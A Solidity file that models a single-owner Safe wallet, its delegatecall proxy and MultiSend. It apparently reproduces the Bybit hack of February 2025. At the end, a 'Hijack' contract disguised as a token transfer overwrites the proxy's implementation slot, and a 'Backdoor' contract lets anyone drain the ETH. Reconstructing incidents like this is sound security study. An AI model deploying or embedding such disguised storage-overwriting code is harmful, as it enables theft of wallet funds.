// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.26;

import {ECDSA} from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";

/// A Safe with one owner: the storage layout of its proxy, its typed data and execTransaction.
contract Safe {
    /// Slot 0, which the proxy reads.
    address public singleton;
    address public owner;
    uint256 public nonce;

    receive() external payable {}

    function setup(address first) external {
        require(owner == address(0), "set up");
        owner = first;
    }

    function execTransaction(
        address to, uint256 value, bytes calldata data, uint8 operation, uint256 safeTxGas, uint256 baseGas,
        uint256 gasPrice, address gasToken, address payable refundReceiver, bytes memory signatures
    ) external payable returns (bool success) {
        bytes32 inner = keccak256(abi.encode(
            keccak256("SafeTx(address to,uint256 value,bytes data,uint8 operation,uint256 safeTxGas,uint256 baseGas,uint256 gasPrice,address gasToken,address refundReceiver,uint256 nonce)"),
            to, value, keccak256(data), operation, safeTxGas, baseGas, gasPrice, gasToken, refundReceiver, nonce++
        ));
        bytes32 domain = keccak256(abi.encode(keccak256("EIP712Domain(uint256 chainId,address verifyingContract)"), block.chainid, address(this)));
        check(keccak256(abi.encodePacked(hex"1901", domain, inner)), signatures);
        bytes memory answer;
        if (operation == 1) (success, answer) = to.delegatecall(data);
        else (success, answer) = to.call{value: value}(data);
        require(success, "GS013");
    }

    /// An owner who sends the transaction approves it with v = 1; others sign.
    function check(bytes32 digest, bytes memory signatures) private view {
        require(signatures.length == 65, "GS020");
        if (signatures[64] == 0x01) require(msg.sender == owner, "GS025");
        else require(ECDSA.recover(digest, signatures) == owner, "GS026");
    }
}

contract SafeProxy {
    address internal singleton;

    constructor(address code) payable {
        singleton = code;
    }

    fallback() external payable {
        address code = singleton;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), code, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Safe's MultiSend: operation (1) ‖ to (20) ‖ value (32) ‖ length (32) ‖ data, run by delegatecall.
contract MultiSend {
    function multiSend(bytes memory transactions) external payable {
        assembly {
            let end := add(add(transactions, 0x20), mload(transactions))
            for { let i := add(transactions, 0x20) } lt(i, end) {} {
                let operation := shr(248, mload(i))
                let to := shr(96, mload(add(i, 1)))
                let value := mload(add(i, 21))
                let length := mload(add(i, 53))
                let ok
                switch operation
                case 0 { ok := call(gas(), to, value, add(i, 85), length, 0, 0) }
                case 1 { ok := delegatecall(gas(), to, add(i, 85), length, 0, 0) }
                if iszero(ok) { revert(0, 0) }
                i := add(add(i, 85), length)
            }
        }
    }
}

/// What was used against Bybit in February 2025: looks like a token transfer, writes slot 0.
contract Hijack {
    address internal singleton;

    function transfer(address code, uint256) external {
        singleton = code;
    }
}

/// The code behind a hijacked Safe: anybody empties it.
contract Backdoor {
    function sweepETH(address payable to) external {
        to.transfer(address(this).balance);
    }
}
